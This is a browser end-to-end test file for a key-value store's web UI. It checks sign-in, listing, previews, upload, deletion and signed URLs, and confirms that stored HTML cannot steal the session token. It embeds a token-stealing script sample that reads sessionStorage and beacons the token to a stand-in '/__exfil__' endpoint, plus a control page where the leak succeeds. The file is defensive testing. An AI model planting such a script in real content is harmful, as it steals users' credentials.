// End-to-end test of the storage browser (`GET /`) in headless Chromium: Debian's `chromium`, driven
// by playwright-core. Run by scripts/ui-tests.sh, which starts a real server and sets:
//   KVSTORE_URL     the server, e.g. http://127.0.0.1:41234 (must be 127.0.0.1: the browser may
//                   reach nothing else)
//   KVSTORE_TOKEN   a token of a user with no stores yet
//   CHROMIUM_PATH   the browser (default /usr/bin/chromium)
//   SCREENSHOT_DIR  where the screenshots go (default target/ui-screenshots)
//
// The test makes its data through the API first, then does everything through the page as a user
// would: sign in, list stores (named/unnamed, order, pages), open one, filter and page its keys,
// preview JSON/text/HTML/images/binary, download, upload, delete, copy a signed public URL. Last, it
// checks that stored HTML whose script tries to read the token from sessionStorage never runs: not
// in the preview, not in the sandboxed rendering, not when its public URL is opened in the tab.

import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, rmSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { after, before, test as nodeTest } from 'node:test';
import { deflateSync } from 'node:zlib';

import { chromium } from 'playwright-core';

const HERE = dirname(fileURLToPath(import.meta.url));
const BASE = (process.env.KVSTORE_URL || '').replace(/\/+$/, '');
const TOKEN = process.env.KVSTORE_TOKEN || '';
const CHROMIUM = process.env.CHROMIUM_PATH || '/usr/bin/chromium';
const SHOTS = resolve(process.env.SCREENSHOT_DIR || join(HERE, '..', '..', 'target', 'ui-screenshots'));
const TOKEN_KEY = 'kvstore.token';

assert.ok(BASE && TOKEN, 'set KVSTORE_URL and KVSTORE_TOKEN (scripts/ui-tests.sh does)');
const ORIGIN = new URL(BASE).origin;
assert.equal(new URL(BASE).hostname, '127.0.0.1', 'the browser may reach only 127.0.0.1');

// ---- the data, made through the API -------------------------------------------------------------

async function apiCall(method, path, { body, contentType, token = TOKEN } = {}) {
  const headers = {};
  if (token) headers.Authorization = `Bearer ${token}`;
  if (contentType) headers['Content-Type'] = contentType;
  const response = await fetch(`${BASE}${path}`, { method, headers, body });
  return response;
}

async function createStore(name) {
  const response = await apiCall('POST', name ? `/v2/key-value-stores?name=${name}` : '/v2/key-value-stores');
  assert.ok(response.ok, `create store ${name}: ${response.status}`);
  return (await response.json()).data;
}

async function putRecord(storeId, key, body, contentType) {
  const response = await apiCall('PUT', `/v2/key-value-stores/${storeId}/records/${key}`, { body, contentType });
  assert.equal(response.status, 201, `put ${key}: ${await response.text()}`);
}

/** A small RGB PNG (a gradient), made here so that the test needs no files. */
function png(width, height) {
  const crcTable = Array.from({ length: 256 }, (_, n) => {
    let c = n;
    for (let k = 0; k < 8; k += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    return c >>> 0;
  });
  const crc = (bytes) => {
    let c = 0xffffffff;
    for (const b of bytes) c = crcTable[(c ^ b) & 0xff] ^ (c >>> 8);
    return (c ^ 0xffffffff) >>> 0;
  };
  const chunk = (type, data) => {
    const out = Buffer.alloc(12 + data.length);
    out.writeUInt32BE(data.length, 0);
    out.write(type, 4, 'ascii');
    data.copy(out, 8);
    out.writeUInt32BE(crc(out.subarray(4, 8 + data.length)), 8 + data.length);
    return out;
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 8; // bit depth
  header[9] = 2; // RGB
  const raw = Buffer.alloc((width * 3 + 1) * height);
  for (let y = 0; y < height; y += 1) {
    const row = y * (width * 3 + 1);
    for (let x = 0; x < width; x += 1) {
      raw[row + 1 + x * 3] = Math.round((x / (width - 1)) * 255);
      raw[row + 2 + x * 3] = 90;
      raw[row + 3 + x * 3] = Math.round((y / (height - 1)) * 255);
    }
  }
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(raw)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

const JSON_VALUE = { title: 'kvstore', tags: ['a', 'b'], nested: { ok: true, count: 3 } };
const TEXT = 'Hello <b>not bold</b> & friends\nsecond line';
const EXFIL = `${ORIGIN}/__exfil__`;
/** Stored HTML whose script, if it ever ran, would try to send the token away. */
const EVIL_HTML = `<!doctype html><html><head><title>evil</title></head><body>
<h1 id="rendered-heading">Rendered heading</h1>
<p>Some <em>emphasis</em>.</p>
<script>
  let t = 'none';
  try { t = String(sessionStorage.getItem(${JSON.stringify(TOKEN_KEY)})); } catch (e) { t = 'error:' + e.name; }
  new Image().src = ${JSON.stringify(EXFIL)} + '?via=img&t=' + encodeURIComponent(t);
  fetch(${JSON.stringify(EXFIL)} + '?via=fetch&t=' + encodeURIComponent(t), { mode: 'no-cors' }).catch(() => {});
  try { parent.postMessage({ leaked: t }, '*'); } catch (e) {}
  document.body.append(Object.assign(document.createElement('p'), { id: 'script-ran', textContent: 'the script ran' }));
</script>
</body></html>`;
const PNG = png(48, 32);
const BINARY = Buffer.from(Array.from({ length: 300 }, (_, i) => i % 256));
const ITEMS = Array.from({ length: 25 }, (_, i) => `item-${String(i).padStart(3, '0')}`);

const data = { stores: [], docs: null };

async function makeData() {
  for (let i = 1; i <= 9; i += 1) data.stores.push(await createStore(`ui-s0${i}`));
  data.docs = await createStore('ui-docs');
  data.stores.push(data.docs);
  data.stores.push(await createStore('ui-photos'));
  data.stores.push(await createStore('ui-empty'));
  data.stores.push(await createStore(null));
  data.stores.push(await createStore(null));
  const id = data.docs.id;
  await putRecord(id, 'doc.json', JSON.stringify(JSON_VALUE), 'application/json; charset=utf-8');
  await putRecord(id, 'note.txt', TEXT, 'text/plain; charset=utf-8');
  await putRecord(id, 'page.html', EVIL_HTML, 'text/html; charset=utf-8');
  await putRecord(id, 'pixel.png', PNG, 'image/png');
  await putRecord(id, 'blob.bin', BINARY, 'application/octet-stream');
  await Promise.all(ITEMS.map((key) => putRecord(id, key, `value of ${key}`, 'text/plain')));
}

// ---- the browser --------------------------------------------------------------------------------

let browser;
let context;
let page;
let shot = 0;
const seen = { requests: [], blocked: [], exfil: [], errors: [], consoleErrors: [] };

async function screenshot(name) {
  shot += 1;
  const file = join(SHOTS, `${String(shot).padStart(2, '0')}-${name}.png`);
  await page.screenshot({ path: file, fullPage: true });
  return file;
}

/** The status line says `text` (the page's actions end by saying what they did). */
async function statusSays(text) {
  await page.locator('#status').filter({ hasText: text }).waitFor();
}

async function rowKeys() {
  return page.locator('#keys-table tbody th').allTextContents();
}

async function storeNames() {
  return page.locator('#stores-table tbody th button').allTextContents();
}

/** Retries `check` (which throws while not yet true) for up to 10 s; the page loads asynchronously. */
async function eventually(check) {
  const deadline = Date.now() + 10_000;
  for (;;) {
    try {
      return await check();
    } catch (error) {
      if (Date.now() > deadline) throw error;
      await new Promise((r) => setTimeout(r, 50));
    }
  }
}

/** The steps build on each other: after one fails, the rest are skipped rather than time out. */
let failedStep = null;
function test(name, body) {
  nodeTest(name, async (t) => {
    if (failedStep) {
      t.skip(`after the failure of "${failedStep}"`);
      return;
    }
    try {
      await body(t);
    } catch (error) {
      failedStep = name;
      await screenshot('FAILED').catch(() => {});
      throw error;
    }
  });
}

before(async () => {
  rmSync(SHOTS, { recursive: true, force: true });
  mkdirSync(SHOTS, { recursive: true });
  await makeData();
  browser = await chromium.launch({
    executablePath: CHROMIUM,
    args: [
      '--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run',
      '--disable-background-networking', '--disable-component-update', '--disable-sync',
      // Nothing but 127.0.0.1: every other host goes to a proxy that does not exist (loopback
      // bypasses proxies), and no other host name resolves.
      '--proxy-server=http://127.0.0.1:9', '--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1',
    ],
  });
  context = await browser.newContext({
    viewport: { width: 1360, height: 900 },
    permissions: ['clipboard-read', 'clipboard-write'],
    acceptDownloads: true,
  });
  await context.route('**/*', async (route) => {
    const url = new URL(route.request().url());
    if (url.origin !== ORIGIN) {
      seen.blocked.push(url.href);
      await route.abort('blockedbyclient');
    } else if (url.pathname === '/__exfil__') {
      seen.exfil.push(url.href);
      await route.fulfill({ status: 204 });
    } else if (url.pathname === '/__control__.html') {
      await route.fulfill({ status: 200, contentType: 'text/html', body: EVIL_HTML });
    } else {
      await route.continue();
    }
  });
  page = await context.newPage();
  page.setDefaultTimeout(15_000);
  page.on('request', (request) => seen.requests.push(request.url()));
  page.on('pageerror', (error) => seen.errors.push(String(error)));
  page.on('console', (message) => {
    if (message.type() === 'error') seen.consoleErrors.push(message.text());
  });
});

after(async () => {
  await browser?.close();
});

test('signs in with a token (a wrong one is refused)', async () => {
  await page.goto(`${BASE}/`);
  await page.getByLabel('API token').waitFor();
  assert.equal(await page.locator('#browser').isHidden(), true);
  await screenshot('sign-in');

  await page.getByLabel('API token').fill('not-a-token');
  await page.getByRole('button', { name: 'Sign in' }).click();
  await page.locator('#error').filter({ hasText: 'invalid-token' }).waitFor();
  assert.equal(await page.evaluate((k) => sessionStorage.getItem(k), TOKEN_KEY), null);
  await screenshot('sign-in-refused');

  await page.getByLabel('API token').fill(TOKEN);
  await page.getByRole('button', { name: 'Sign in' }).click();
  await page.locator('#who-name').filter({ hasText: 'alice' }).waitFor();
  assert.equal(await page.locator('#error').isHidden(), true);
  assert.equal(await page.evaluate((k) => sessionStorage.getItem(k), TOKEN_KEY), TOKEN);
  assert.ok(!page.url().includes(TOKEN), 'the token is not in the URL');
  assert.equal(await page.getByLabel('API token').inputValue(), '', 'the field is cleared');
});

test('lists stores: named only by default, unnamed on request, newest first, in pages', async () => {
  const named = data.stores.filter((s) => s.name).map((s) => s.name);
  await page.locator('#stores-range').filter({ hasText: `1–${named.length} of ${named.length}` }).waitFor();
  const shown = await storeNames();
  assert.deepEqual([...shown].sort(), [...named].sort(), 'the named stores');
  await screenshot('stores');

  await page.getByLabel('Include unnamed').check();
  await page.locator('#stores-range').filter({ hasText: `of ${data.stores.length}` }).waitFor();
  const all = await storeNames();
  assert.equal(all.length, data.stores.length);
  assert.equal(all.filter((n) => n === 'Unnamed store').length, 2);

  await page.getByLabel('Newest first').check();
  await eventually(async () => assert.deepEqual(await storeNames(), [...all].reverse()));
  await screenshot('stores-unnamed-newest-first');

  await page.locator('#stores-limit').selectOption('10');
  await page.locator('#stores-range').filter({ hasText: `1–10 of ${data.stores.length}` }).waitFor();
  assert.equal(await page.locator('#stores-prev').isDisabled(), true);
  await page.locator('#stores-next').click();
  await page.locator('#stores-range').filter({ hasText: `11–${data.stores.length} of ${data.stores.length}` }).waitFor();
  assert.deepEqual(await storeNames(), [...all].reverse().slice(10));
  assert.equal(await page.locator('#stores-next').isDisabled(), true);
  await screenshot('stores-page-2');
  await page.locator('#stores-prev').click();
  await page.locator('#stores-range').filter({ hasText: `1–10 of ${data.stores.length}` }).waitFor();

  await page.getByLabel('Newest first').uncheck();
  await page.getByLabel('Include unnamed').uncheck();
  await page.locator('#stores-range').filter({ hasText: `1–10 of ${named.length}` }).waitFor();
  await eventually(async () => assert.deepEqual(await storeNames(), shown.slice(0, 10)));
});

test('opens a store; filters keys by prefix and pages through them', async () => {
  await page.getByRole('button', { name: `Open ui-docs (${data.docs.id})` }).click();
  await page.getByRole('heading', { name: 'Store ui-docs' }).waitFor();
  await page.locator('#keys-range').filter({ hasText: 'Page 1' }).waitFor();
  const all = await rowKeys();
  assert.deepEqual(all, ['blob.bin', 'doc.json', ...ITEMS, 'note.txt', 'page.html', 'pixel.png']);
  assert.ok(page.url().endsWith(`#store=${data.docs.id}`));
  await screenshot('store-opened');

  await page.locator('#keys-limit').selectOption('10');
  await page.getByLabel('Key prefix').fill('item-');
  await page.getByRole('button', { name: 'Filter' }).click();
  await page.locator('#keys-range').filter({ hasText: 'Page 1 (10 keys: item-000 … item-009)' }).waitFor();
  assert.deepEqual(await rowKeys(), ITEMS.slice(0, 10));
  assert.equal(await page.locator('#keys-prev').isDisabled(), true);
  await screenshot('keys-prefix-page-1');

  await page.locator('#keys-next').click();
  await page.locator('#keys-range').filter({ hasText: 'Page 2' }).waitFor();
  assert.deepEqual(await rowKeys(), ITEMS.slice(10, 20));
  await page.locator('#keys-next').click();
  await page.locator('#keys-range').filter({ hasText: 'Page 3' }).waitFor();
  assert.deepEqual(await rowKeys(), ITEMS.slice(20));
  assert.equal(await page.locator('#keys-next').isDisabled(), true);
  await screenshot('keys-prefix-page-3');
  await page.locator('#keys-prev').click();
  await page.locator('#keys-range').filter({ hasText: 'Page 2' }).waitFor();
  assert.deepEqual(await rowKeys(), ITEMS.slice(10, 20));
  await page.locator('#keys-first').click();
  await page.locator('#keys-range').filter({ hasText: 'Page 1' }).waitFor();
  assert.deepEqual(await rowKeys(), ITEMS.slice(0, 10));

  await page.getByLabel('Key prefix').fill('nothing-');
  await page.getByRole('button', { name: 'Filter' }).click();
  await page.locator('#keys-empty').filter({ hasText: 'No records with keys starting with' }).waitFor();

  await page.getByLabel('Key prefix').fill('');
  await page.locator('#keys-limit').selectOption('50');
  await page.locator('#keys-range').filter({ hasText: 'Page 1 (30 keys' }).waitFor();
});

test('previews JSON pretty-printed', async () => {
  await page.getByRole('button', { name: 'Preview doc.json' }).click();
  await page.getByRole('heading', { name: 'doc.json' }).waitFor();
  assert.equal(await page.locator('#preview-text').textContent(), JSON.stringify(JSON_VALUE, null, 2));
  assert.match(await page.locator('#preview-meta').textContent(), /application\/json/);
  await screenshot('preview-json');
});

test('previews text as text', async () => {
  await page.getByRole('button', { name: 'Preview note.txt' }).click();
  await page.getByRole('heading', { name: 'note.txt' }).waitFor();
  assert.equal(await page.locator('#preview-text').textContent(), TEXT);
  assert.equal(await page.locator('#preview-text b').count(), 0, 'markup in text stays text');
  await screenshot('preview-text');
});

test('previews HTML as source; renders it only in a sandbox where its script does not run', async () => {
  await page.evaluate(() => {
    window.__messages = [];
    window.addEventListener('message', (event) => window.__messages.push(event.data));
  });
  await page.getByRole('button', { name: 'Preview page.html' }).click();
  await page.getByRole('heading', { name: 'page.html' }).waitFor();
  assert.equal(await page.locator('#preview-text').textContent(), EVIL_HTML);
  assert.equal(await page.locator('#rendered-heading').count(), 0, 'the HTML is not rendered in the page');
  assert.equal(await page.locator('#script-ran').count(), 0);
  assert.equal(await page.locator('iframe').count(), 0, 'no frame until asked for');
  assert.deepEqual(
    await page.evaluate(() => Array.from(document.scripts, (s) => new URL(s.src).pathname)),
    ['/ui/app.js'],
    'the only script element is the page\'s own');
  await screenshot('preview-html-source');

  await page.getByRole('button', { name: 'Show rendered (sandboxed)' }).click();
  const frame = page.locator('#preview-frame');
  await frame.waitFor();
  assert.equal(await frame.getAttribute('sandbox'), '', 'sandboxed with no permissions at all');
  assert.match(await frame.getAttribute('src'), /^blob:/);
  const inside = page.frameLocator('#preview-frame');
  await inside.getByRole('heading', { name: 'Rendered heading' }).waitFor();
  await page.waitForTimeout(500);
  assert.equal(await inside.locator('#script-ran').count(), 0, 'the script did not run');
  assert.deepEqual(seen.exfil, [], 'nothing was sent anywhere');
  assert.deepEqual(await page.evaluate(() => window.__messages), [], 'no message reached the page');
  await screenshot('preview-html-rendered-sandboxed');
  await page.getByRole('button', { name: 'Hide rendered' }).click();
  assert.equal(await page.locator('iframe').count(), 0);
});

test('previews an image from a blob: URL', async () => {
  await page.getByRole('button', { name: 'Preview pixel.png' }).click();
  const image = page.getByRole('img', { name: 'Preview of the image pixel.png' });
  await image.waitFor();
  assert.match(await image.getAttribute('src'), /^blob:/);
  await page.waitForFunction(() => document.getElementById('preview-image').complete);
  assert.deepEqual(
    await image.evaluate((img) => [img.naturalWidth, img.naturalHeight]),
    [48, 32],
    'the PNG decoded');
  await screenshot('preview-image');
});

test('follows a dark color scheme', async () => {
  await page.emulateMedia({ colorScheme: 'dark' });
  const background = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
  assert.equal(await background(), 'rgb(22, 25, 31)');
  await screenshot('dark-color-scheme');
  await page.emulateMedia({ colorScheme: 'light' });
  assert.equal(await background(), 'rgb(245, 246, 248)');
});

test('previews binary content as a hex dump', async () => {
  await page.getByRole('button', { name: 'Preview blob.bin' }).click();
  await page.getByRole('heading', { name: 'blob.bin' }).waitFor();
  const dump = await page.locator('#preview-text').textContent();
  assert.ok(dump.startsWith('00000000  00 01 02 03 04 05 06 07 08 09 0a 0b 0c 0d 0e 0f  ................'), dump);
  await page.getByRole('button', { name: 'Close', exact: true }).click();
  assert.equal(await page.locator('#preview').isHidden(), true);
});

test('downloads a record', async () => {
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Download pixel.png' }).click(),
  ]);
  assert.equal(download.suggestedFilename(), 'pixel.png');
  const file = await download.path();
  assert.deepEqual(readFileSync(file), PNG);
  await statusSays('Downloaded pixel.png');
});

test('uploads a file', async () => {
  const content = 'uploaded through the storage browser\n';
  await page.getByLabel('File', { exact: true }).setInputFiles({
    name: 'my upload.txt', mimeType: 'text/plain', buffer: Buffer.from(content),
  });
  assert.equal(await page.getByLabel('Key', { exact: true }).inputValue(), 'my-upload.txt');
  assert.equal(await page.getByLabel('Content type').inputValue(), 'text/plain');
  await page.getByLabel('Content type').fill('text/plain; charset=utf-8');
  await page.getByRole('button', { name: 'Upload', exact: true }).click();
  await statusSays('Uploaded my-upload.txt');
  await page.locator('#keys-table tr[data-key="my-upload.txt"]').waitFor();
  await screenshot('uploaded');

  const response = await apiCall('GET', `/v2/key-value-stores/${data.docs.id}/records/my-upload.txt`);
  assert.equal(response.status, 200);
  assert.equal(response.headers.get('content-type'), 'text/plain; charset=utf-8');
  assert.equal(await response.text(), content);

  // A key the server refuses never leaves the page; the error is shown.
  await page.getByLabel('File', { exact: true }).setInputFiles({ name: 'x.txt', mimeType: 'text/plain', buffer: Buffer.from('x') });
  await page.getByLabel('Key', { exact: true }).fill('bad/key');
  await page.getByRole('button', { name: 'Upload', exact: true }).click();
  await page.locator('#error').filter({ hasText: 'not a valid key' }).waitFor();
  await screenshot('upload-bad-key');
  await page.locator('#upload-form').evaluate((form) => form.reset());
});

test('deletes a record after confirmation', async () => {
  let asked = '';
  const answer = (accept) => page.once('dialog', async (dialog) => {
    asked = dialog.message();
    if (accept) await dialog.accept();
    else await dialog.dismiss();
  });
  answer(false);
  await page.getByRole('button', { name: 'Delete note.txt' }).click();
  await page.waitForTimeout(200);
  assert.match(asked, /Delete the record “note\.txt”/);
  assert.equal(await page.locator('#keys-table tr[data-key="note.txt"]').count(), 1, 'kept when cancelled');

  answer(true);
  await page.getByRole('button', { name: 'Delete note.txt' }).click();
  await statusSays('Deleted note.txt');
  await page.locator('#keys-table tr[data-key="note.txt"]').waitFor({ state: 'detached' });
  const response = await apiCall('GET', `/v2/key-value-stores/${data.docs.id}/records/note.txt`);
  assert.equal(response.status, 404);
  await screenshot('deleted');
});

test('copies a signed public URL that opens without a token', async () => {
  await page.getByRole('button', { name: 'Copy URL doc.json' }).click();
  await statusSays('public URL of doc.json');
  const url = await page.getByLabel('Public URL of doc.json').inputValue();
  assert.ok(url.startsWith(`${BASE}/v2/key-value-stores/${data.docs.id}/records/doc.json?signature=`), url);
  assert.ok(!url.includes(TOKEN));
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), url, 'on the clipboard');
  await screenshot('public-url-copied');

  const response = await fetch(url);
  assert.equal(response.status, 200);
  assert.deepEqual(await response.json(), JSON_VALUE);
  const unsigned = await fetch(url.replace(/\?.*$/, ''));
  assert.equal(unsigned.status, 404, 'without the signature the record is private');
});

test('stored HTML cannot read the token, even opened by its public URL in the signed-in tab', async () => {
  // The detector works: the same HTML served as an ordinary page of this origin would leak it.
  await page.goto(`${ORIGIN}/__control__.html`);
  await page.waitForFunction(() => document.getElementById('script-ran'));
  await page.waitForTimeout(300);
  assert.ok(seen.exfil.some((u) => u.includes(encodeURIComponent(TOKEN))), 'the control page leaked the token');
  seen.exfil.length = 0;

  // The record itself, opened in this tab (whose sessionStorage holds the token).
  const listing = await (await apiCall('GET', `/v2/key-value-stores/${data.docs.id}/keys?prefix=page.html`)).json();
  const url = listing.data.items[0].recordPublicUrl;
  await page.goto(url);
  await page.locator('#rendered-heading').waitFor();
  await page.waitForTimeout(500);
  assert.equal(await page.locator('#script-ran').count(), 0, 'the script did not run');
  assert.deepEqual(seen.exfil, [], 'nothing was sent');
  await screenshot('public-url-opened-sandboxed');

  // Back to the browser: still signed in; a store in the URL's fragment opens, and the API's
  // error shows when there is no such store.
  await page.goto(`${BASE}/#store=~no-such-store`);
  await page.locator('#error').filter({ hasText: 'Store was not found. (record-not-found, HTTP 404)' }).waitFor();
  assert.equal(await page.locator('#sign-in').isHidden(), true, 'still signed in');
  assert.equal(await page.locator('#stores').isVisible(), true);
  await screenshot('api-error-shown');
  await page.goto(`${BASE}/#store=${data.docs.id}`);
  await page.reload();
  await page.locator('#who-name').filter({ hasText: 'alice' }).waitFor();
  assert.equal(await page.evaluate((k) => sessionStorage.getItem(k), TOKEN_KEY), TOKEN, 'still signed in');
  await page.getByRole('heading', { name: 'Store ui-docs' }).waitFor();
});

test('the page itself refuses HTML strings (CSP with Trusted Types) and inline script', async () => {
  const before = seen.consoleErrors.length;
  const outcome = await page.evaluate(() => {
    const tried = {};
    try {
      document.body.insertAdjacentHTML('beforeend', '<b id="injected">x</b>');
      tried.html = 'allowed';
    } catch (error) {
      tried.html = error.name;
    }
    try {
      const script = document.createElement('script');
      script.textContent = 'window.__inlineRan = true';
      tried.textContent = 'allowed';
    } catch (error) {
      tried.textContent = error.name;
    }
    // A script element whose text comes as a text node: Trusted Types or script-src stop it.
    const script = document.createElement('script');
    script.append(document.createTextNode('window.__inlineRan = true'));
    document.body.append(script);
    tried.inline = window.__inlineRan === true ? 'ran' : 'blocked';
    script.remove();
    return tried;
  });
  assert.equal(outcome.html, 'TypeError', 'insertAdjacentHTML with a string is refused');
  assert.equal(outcome.textContent, 'TypeError', 'script text from a string is refused');
  assert.equal(outcome.inline, 'blocked', 'inline script does not run');
  assert.equal(await page.locator('#injected').count(), 0);
  // Those refusals were logged as errors, as they should be; they are not the page's own.
  seen.consoleErrors.splice(before);
});

test('signs out: the token is gone', async () => {
  await page.getByRole('button', { name: 'Sign out' }).click();
  await page.getByLabel('API token').waitFor();
  assert.equal(await page.evaluate((k) => sessionStorage.getItem(k), TOKEN_KEY), null);
  assert.equal(await page.locator('#browser').isHidden(), true);
  await screenshot('signed-out');
});

test('the browser reached nothing but this server, and the page logged no errors', async () => {
  assert.deepEqual(seen.blocked, [], 'no request left 127.0.0.1');
  for (const url of seen.requests) {
    const { protocol, origin } = new URL(url);
    assert.ok(protocol === 'blob:' || protocol === 'data:' || origin === ORIGIN, url);
  }
  assert.deepEqual(seen.errors, [], 'no uncaught exceptions');
  // Failed API calls (the wrong token, a HEAD of a missing key, a deleted record) are logged by
  // Chromium as failed loads, and the sandboxed frames' blocked scripts as such: both expected.
  const unexpected = seen.consoleErrors.filter((text) => !/^Failed to load resource|^Blocked script execution/.test(text));
  assert.deepEqual(unexpected, [], 'no CSP or Trusted Types violations, no other errors');
});
